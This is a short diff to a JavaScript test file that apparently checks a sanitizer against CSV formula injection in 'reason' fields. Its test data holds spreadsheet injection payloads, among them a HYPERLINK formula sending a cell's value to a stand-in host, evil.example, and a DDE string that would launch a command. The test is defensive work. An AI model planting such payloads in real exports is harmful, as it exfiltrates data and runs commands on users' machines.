@@ -177,9 +177,10 @@ describe.each([
       "+1+cmd",
       "-2+3",
       "@SUM(A1)",
-      // A line break after the formula: papaparse's own pattern missed these.
-      '=HYPERLINK("https://evil.example/?"&A1,"click")\nx',
-      "+1+cmd|' /C calc'!A0\r\nz",
+      // (A reason is one line of readable text now; a line break after the formula, which
+      // papaparse's own pattern missed, is refused at the grant: 422, as any control character.)
+      '=HYPERLINK("https://evil.example/?"&A1,"click") x',
+      "+1+cmd|' /C calc'!A0 z",
       "\uFF1D1+1", // a full-width equals sign
     ];
     for (const reason of reasons)
